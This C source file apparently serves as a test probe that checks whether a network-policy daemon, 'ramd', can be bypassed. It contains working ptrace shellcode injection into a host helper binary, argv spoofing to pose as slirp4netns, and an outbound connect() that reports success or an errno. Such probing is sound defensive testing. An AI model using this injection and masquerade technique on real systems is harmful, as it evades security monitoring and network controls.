/* The host's slirp4netns, traced by its user from its start, yet let
 * through: its user starts it under ptrace with every argument an empty
 * string, so its /proc/PID/cmdline holds nothing but NULs. ramd takes that
 * for a process caught in the middle of exec ("not yet": looked at again on
 * the next scan, nothing remembered), before it looks at the tracer. The
 * user lets the loader map glibc, writes code of its own over the loader's
 * text (a private copy of the page: /proc/PID/maps still names the host's
 * ld.so), points the process at it and detaches. The code first writes
 * "slirp4netns" over the empty arguments (argv[0] under its own name), then
 * sleeps WAIT_MS, by when ramd has found an untraced slirp4netns of the
 * host's with only the host's files mapped and registered it as a relay,
 * then runs socket() and connect(TO, PORT) and writes connect's return to
 * the pose, which prints "ok", the errno, or what failed.
 * Usage: earlytrace HELPER TO PORT WAIT_MS */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Position-independent: set the arguments, sleep, socket, connect, write
 * connect's return to fd 1, exit. Data at sc_arg (argument area address),
 * sc_name (16 bytes), sc_ts (timespec), sc_sa (sockaddr_in). */
__asm__(".text\n"
        ".globl sc_start, sc_arg, sc_name, sc_ts, sc_sa, sc_end\n"
        "sc_start:\n"
        "  mov sc_arg(%rip), %rdi\n"
        "  mov sc_name(%rip), %rax\n"
        "  mov %rax, (%rdi)\n"
        "  mov sc_name+8(%rip), %rax\n"
        "  mov %rax, 8(%rdi)\n"
        "  lea sc_ts(%rip), %rdi\n"
        "  xor %esi, %esi\n"
        "  mov $35, %eax\n"
        "  syscall\n"
        "  mov $2, %edi\n"
        "  mov $1, %esi\n"
        "  xor %edx, %edx\n"
        "  mov $41, %eax\n"
        "  syscall\n"
        "  mov %eax, %edi\n"
        "  lea sc_sa(%rip), %rsi\n"
        "  mov $16, %edx\n"
        "  mov $42, %eax\n"
        "  syscall\n"
        "  push %rax\n"
        "  mov $1, %edi\n"
        "  mov %rsp, %rsi\n"
        "  mov $8, %edx\n"
        "  mov $1, %eax\n"
        "  syscall\n"
        "  mov $231, %eax\n"
        "  xor %edi, %edi\n"
        "  syscall\n"
        "  .balign 8\n"
        "sc_arg: .quad 0\n"
        "sc_name: .quad 0, 0\n"
        "sc_ts: .quad 0, 0\n"
        "sc_sa: .quad 0, 0\n"
        "sc_end:\n");
extern char sc_start[], sc_arg[], sc_name[], sc_ts[], sc_sa[], sc_end[];

static int maps_libc(pid_t pid) {
    char path[64], buf[65536];
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n"))
        if (strstr(line, "libc.so.6") && strstr(line, " r-xp ")) return 1;
    return 0;
}

/* arg_start from /proc/PID/stat (field 48). */
static unsigned long arg_start(pid_t pid) {
    char path[64], buf[4096];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    int fd = open(path, O_RDONLY);
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
    if (fd >= 0) close(fd);
    if (n <= 0) return 0;
    buf[n] = 0;
    char *p = strrchr(buf, ')');
    if (!p) return 0;
    int field = 2;
    for (char *t = strtok(p + 1, " "); t; t = strtok(NULL, " "))
        if (++field == 48) return strtoul(t, NULL, 10);
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 5) return 2;
    int out[2];
    if (pipe(out) != 0) return 1;
    pid_t helper = fork();
    if (helper == 0) {
        int null = open("/dev/null", O_RDWR);
        dup2(null, 0);
        dup2(out[1], 1);
        dup2(null, 2);
        close(out[0]);
        close(out[1]);
        char *empty[65];
        for (int i = 0; i < 64; i++) empty[i] = "";
        empty[64] = NULL;
        ptrace(PTRACE_TRACEME, 0, 0, 0);
        execv(argv[1], empty);
        _exit(127);
    }
    close(out[1]);
    int status;
    if (waitpid(helper, &status, 0) != helper || !WIFSTOPPED(status)) {
        printf("no exec stop\n");
        return 1;
    }
    /* Run to a system call after glibc is mapped. */
    int loaded = 0;
    for (int i = 0; i < 10000 && !loaded; i++) {
        if (ptrace(PTRACE_SYSCALL, helper, 0, 0) != 0 || waitpid(helper, &status, 0) != helper ||
            !WIFSTOPPED(status)) {
            printf("lost the helper\n");
            return 1;
        }
        loaded = maps_libc(helper);
    }
    if (!loaded) {
        printf("glibc never mapped\n");
        return 1;
    }
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, helper, 0, &regs) != 0) {
        printf("getregs: %s\n", strerrorname_np(errno));
        return 1;
    }
    /* The code, with its data, over the start of the page the loader is in. */
    size_t len = (size_t)(sc_end - sc_start);
    char code[512] = {0};
    memcpy(code, sc_start, len);
    unsigned long args = arg_start(helper);
    memcpy(code + (sc_arg - sc_start), &args, 8);
    strncpy(code + (sc_name - sc_start), "slirp4netns", 16);
    long ts[2] = {atoi(argv[4]) / 1000, (atoi(argv[4]) % 1000) * 1000000L};
    memcpy(code + (sc_ts - sc_start), ts, 16);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[3]))};
    inet_pton(AF_INET, argv[2], &to.sin_addr);
    memcpy(code + (sc_sa - sc_start), &to, 16);
    unsigned long at = regs.rip & ~0xfffUL;
    for (size_t off = 0; off < len; off += 8) {
        long word;
        memcpy(&word, code + off, 8);
        if (ptrace(PTRACE_POKETEXT, helper, at + off, word) != 0) {
            printf("poke: %s\n", strerrorname_np(errno));
            return 1;
        }
    }
    regs.rip = at;
    regs.orig_rax = -1;
    if (!args || ptrace(PTRACE_SETREGS, helper, 0, &regs) != 0 || ptrace(PTRACE_DETACH, helper, 0, 0) != 0) {
        printf("detach: %s\n", strerrorname_np(errno));
        return 1;
    }
    struct pollfd p = {.fd = out[0], .events = POLLIN};
    long r = 1;
    if (poll(&p, 1, 10000) != 1 || read(out[0], &r, sizeof r) != sizeof r) printf("no answer\n");
    else if (r == 0) printf("ok\n");
    else printf("%s\n", strerrorname_np(-r));
    fflush(stdout);
    kill(helper, SIGKILL);
    waitpid(helper, &status, 0);
    return 0;
}
